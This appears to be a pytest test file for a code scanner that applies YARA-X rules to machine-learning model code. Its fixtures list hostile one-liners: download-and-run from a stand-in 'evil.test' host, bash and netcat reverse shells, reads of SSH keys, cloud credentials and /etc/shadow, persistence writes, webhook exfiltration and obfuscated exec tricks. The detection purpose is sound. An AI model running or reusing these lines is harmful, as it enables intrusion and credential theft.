"""Our rules for YARA-X know how code that is meant to harm hides, and are silent about honest modelling code."""

import base64

import pytest

from jupyter_modelguard.engines.code_opinions import yara
from jupyter_modelguard.engines.code_opinions.asking import with_code_opinions
from jupyter_modelguard.engines.code_opinions.settings import FILE, Settings, settings
from jupyter_modelguard.engines.worker import Worker
from jupyter_modelguard.errors import ConfigurationError
from jupyter_modelguard.policy.code_opinions import kinds
from jupyter_modelguard.types import ScanReport
from tests.shared.model_code import code_file, honest_files

yara_x = pytest.importorskip("yara_x", reason="it reads the rules")

PAYLOAD = base64.b64encode(bytes(range(256)) * 3).decode()
ARMED = {
    "decoded_exec": (
        "exec(base64.b64decode(text))",
        "x = 1\nexec(zlib.decompress(\n  text))",
        "types.FunctionType(marshal.loads(blob), {})()",
        "run = 1; eval(codecs.decode('vzcbeg bf', 'rot13'))",
    ),
    "hidden_exec": (
        "getattr(__builtins__, 'ex' + 'ec')('x')",
        "__builtins__['eval']('1')",
        "__builtins__.__dict__['eval']('1')",
        "__import__('os').system('true')",
        "name = chr(111)+chr(115)+chr(46)+chr(115)+chr(121)+chr(115)",
        "_____ = eval",
        "[c for c in ().__class__.__base__.__subclasses__() if 'x' in c.__init__.__globals__]",
    ),
    "hidden_name": (
        "getattr(os, 'system')('true')",
        "getattr(os, f'{a}tem')('true')",
        "getattr(getattr(__import__('shutil'), 'os'), name)('true')",
        "getattr(tools, 'sys' + 'tem')('true')",
        "getattr(tools, base64.b64decode('c3lzdGVt').decode())('true')",
        "os.__dict__['sys' + 'tem']('true')",
        "vars(os)['system']('true')",
        "sys.modules['os'].system('true')",
        "importlib.import_module('o' + 's').system('true')",
        "load('so'[::-1]).system('true')",
        "operator.methodcaller('system', 'true')(os)",
        "os.popen.__globals__['system']('true')",
    ),
    "download_and_run": (
        "exec(requests.get('http://evil.test/x').text)",
        "exec(urllib.request.urlopen(address).read())",
        "os.system('curl -s http://evil.test/x | bash')",
        "os.system('wget http://evil.test/x -O /tmp/x && chmod +x /tmp/x')",
        "os.system(\"powershell IEX (New-Object Net.WebClient).DownloadString('http://evil.test')\")",
    ),
    "reverse_shell": (
        "os.system('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1')",
        "os.dup2(s.fileno(), 0)",
        "pty.spawn('/bin/sh')",
        "os.system('nc 10.0.0.1 4444 -e /bin/sh')",
        "os.system('mkfifo /tmp/f; cat /tmp/f | sh')",
    ),
    "harvested_secrets": (
        "open(os.path.expanduser('~/.ssh/id_rsa')).read()",
        "Path.home() / '.aws' / 'credentials'",
        "open(home + '/.cache/huggingface/token')",
        "data = json.dumps(dict(os.environ))",
        "requests.get('http://169.254.169.254/latest/meta-data/')",
        "open('/etc/shadow')",
    ),
    "persistence": (
        "open(home + '/.ssh/authorized_keys', 'a')",
        "os.system('crontab -l | x')",
        "open(os.path.expanduser('~') + '/.bashrc', 'a')",
        "path = os.path.join(site.getsitepackages()[0], 'x.pth')",
        "name = 'sitecustomize.py'",
        "Path.home() / '.ipython/profile_default/startup/x.py'",
        "open('/etc/systemd/system/x.service', 'w')",
    ),
    "crypto_miner": ("pool = 'stratum+tcp://pool.test:3333'", "os.system('./xmrig -o x')"),
    "webhook": (
        "requests.post('https://discord.com/api/webhooks/1/x', json=data)",
        "'https://api.telegram.org/bot%s/sendMessage'",
        "'https://hooks.slack.com/services/T0/B0/x'",
        "'https://webhook.site/123'",
        "'http://a1b2.ngrok.io/x'",
    ),
    "encoded_payload": (f"data = '{PAYLOAD}'\nbase64.b64decode(data)", "code = b'" + "\\x90" * 90 + "'\nexec(code)"),
    "machine_code": ("ctypes.windll.kernel32.VirtualAlloc(0)", "mmap.mmap(-1, 4096, prot=mmap.PROT_EXEC)"),
    "installs_packages": (
        "os.system('pip install evil')",
        "subprocess.run([sys.executable, '-m', 'pip', 'install', 'x'])",
        "pip.main(['install', 'x'])",
    ),
}


def matched(*files):
    return {(one.test, one.path, one.line) for one in yara.ask(files).opinions}


@pytest.mark.parametrize(("rule", "source"), [(rule, source) for rule, sources in ARMED.items() for source in sources])
def test_what_hides_is_found_on_its_line(rule, source):
    lines = {line for test, _, line in matched(code_file(f"import x\n\n{source}\n")) if test == rule}
    assert lines
    assert lines <= {3, 4}


def test_every_rule_has_code_that_it_finds_and_a_kind():
    rules, missed = yara._rules(None)
    assert not missed
    assert {rule.identifier for rule in rules} == set(ARMED)
    named = {rule.identifier: dict(rule.metadata).get("finding") for rule in rules}
    assert set(named.values()) <= {kind.rule for kind in kinds()}


def test_rules_are_silent_about_honest_modelling_code():
    files = honest_files()
    assert len(files) >= 30
    assert not matched(*files)


@pytest.mark.parametrize(
    "source",
    [
        "pattern = re.compile('base64')\nmodel.eval()\nself.compile(optimizer)",
        "torch.save(state, 'model.pth')\nsave('pytorch_model.pth')",
        "icon = 'iVBORw0KGgo" + "A" * 800 + "'",
        "os.environ['TOKENIZERS_PARALLELISM'] = 'false'\nos.environ.get('HF_TOKEN')",
        "# pip install flash-attn\nraise ImportError('Run `pip install flash-attn`')",
        "AutoModel.from_pretrained(name, trust_remote_code=True)",
    ],
)
def test_rules_are_silent_about_what_only_looks_alike(source):
    assert not matched(code_file(source))


def test_text_in_another_encoding_is_looked_at_as_python_reads_it():
    hidden = b"# coding: utf-7\n+AGUAeABlAGM-(base64.b64decode(x))\n"
    assert b"exec" not in hidden
    assert matched(code_file(hidden)) == {("decoded_exec", "modeling.py", 2)}


@pytest.mark.parametrize(
    "content", [b"\xff\xfe\x00", b"# coding: nothing\n", b"", b"\x00" * 100], ids=["no text", "no encoding", "empty", "zeros"]
)
def test_bytes_that_are_no_python_are_looked_at_too(content):
    attack = b"\nexec(base64.b64decode(x))\n"
    assert {test for test, *_ in matched(code_file(content + attack))} == {"decoded_exec"}


def test_line_of_a_hundred_megabytes_is_looked_at():
    found = matched(code_file(b"x = '" + b"a" * 100_000_000 + b"'; exec(base64.b64decode(x))"))
    assert found == {("decoded_exec", "modeling.py", 1), ("encoded_payload", "modeling.py", 1)}


def test_thousands_of_matches_are_a_few_opinions():
    assert len(matched(code_file("__import__('os').system('x')\n" * 10_000))) <= 100


def test_limited_worker_has_room_for_it_beside_bandit():
    worker = Worker(seconds=30)
    try:
        report = worker.attempt(
            with_code_opinions, ScanReport("folder", "python-code"), (code_file("exec(base64.b64decode(x))\n"),)
        )
    finally:
        worker.close()
    (found,) = [one for one in report.findings if one.rule == "opinion-eval"]
    assert found.title == "this line runs a text as Python, say bandit (B102) and yara-x (decoded_exec)"
    assert [engine.partition(" ")[0] for engine in report.engines][-2:] == ["bandit", "yara-x"]


@pytest.fixture
def own(tmp_path, monkeypatch):
    """A folder of somebody's own rules, switched on."""
    folder = tmp_path / "rules"
    folder.mkdir()
    monkeypatch.setattr(yara, "settings", lambda: Settings(yara_rules=folder))
    yara._rules.cache_clear()
    yield folder
    yara._rules.cache_clear()


def test_rules_of_ones_own_are_asked_too_and_broken_ones_told(own):
    (own / "a.yar").write_text('rule house { meta: description = "names our server" strings: $a = "intra.test" condition: $a }')
    (own / "b.yara").write_text('rule kind { meta: finding = "opinion-sends" strings: $a = "intra.test" condition: $a }')
    (own / "c.yar").write_text("rule broken {")
    (own / "d.yar").write_text(f'include "{own / "a.yar"}"')
    (own / "e.yar").write_bytes(b"\xff")
    answer = yara.ask((code_file("x = 1\nsend('intra.test')\n"),))
    assert [(one.test, one.kind.rule, one.line) for one in answer.opinions] == [
        ("house", "opinion-other", 2),
        ("kind", "opinion-sends", 2),
    ]
    assert [sentence.split()[2] for sentence in answer.missed] == ["c.yar", "d.yar", "e.yar"]
    report = with_code_opinions(ScanReport("folder", "python-code"), (code_file("send('intra.test')\n"),))
    assert "names our server, says yara-x (house)" in [one.title for one in report.findings]


def test_file_that_takes_a_rule_too_long_was_not_inspected(own, monkeypatch):
    (own / "slow.yar").write_text("rule slow { strings: $a = /['\"][0-9a-fA-F]{600}/ condition: $a }")
    monkeypatch.setattr(yara, "_SECONDS", 1)
    answer = yara.ask((code_file(b"x = '" + b"a" * 4_000_000), code_file("exec(base64.b64decode(x))\n", "other.py")))
    assert answer.missed == ("modeling.py: yara-x cannot read it (TimeoutError)",)
    assert [one.path for one in answer.opinions] == ["other.py"]
    monkeypatch.setattr(yara, "_SECONDS_FOR_ALL", -1.0)
    assert "for all files" in yara.ask((code_file("x"),)).missed[0]


def test_folder_that_is_not_there_is_told(own):
    own.rmdir()
    answer = yara.ask((code_file("exec(base64.b64decode(x))\n"),))
    assert "cannot be read" in answer.missed[0]
    assert answer.opinions


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("yara_rules = 'rules'", "absolute"),
        ("yara_rule = '/x'", "no setting"),
        ("[[sarif]]\nname = 'x'\ncommand = 'x {folder}'", "list of words"),
        ("[[sarif]]\nname = 'x'\ncommand = ['x']", "{folder}"),
        ("[[sarif]]\nname = 'x'\ncommand = ['x', '{folder}']\nseconds = -1", "number"),
        ("[[sarif]]\ncommand = ['x', '{folder}']", "name"),
        ("sarif = 3", "tables"),
        ("\x00", "understood"),
    ],
)
def test_settings_that_cannot_be_understood_are_refused(tmp_path, text, why):
    tmp_path.chmod(0o700)
    path = tmp_path / FILE
    path.write_text(text)
    path.chmod(0o600)
    with pytest.raises(ConfigurationError, match=why):
        settings(tmp_path)


def test_settings_that_others_could_have_written_are_refused(tmp_path):
    tmp_path.chmod(0o700)
    path = tmp_path / FILE
    path.write_text("yara_rules = '/rules'")
    path.chmod(0o600)
    assert str(settings(tmp_path).yara_rules) == "/rules"
    path.chmod(0o666)
    with pytest.raises(ConfigurationError, match="chmod"):
        settings(tmp_path)


def test_user_without_a_folder_has_switched_nothing_on(monkeypatch, tmp_path):
    from jupyter_modelguard.engines.code_opinions import settings as module

    def nowhere():
        raise ConfigurationError("no home")

    monkeypatch.setattr(module, "default_home", nowhere)
    assert settings() == Settings()
    assert settings(tmp_path / "none") == Settings()
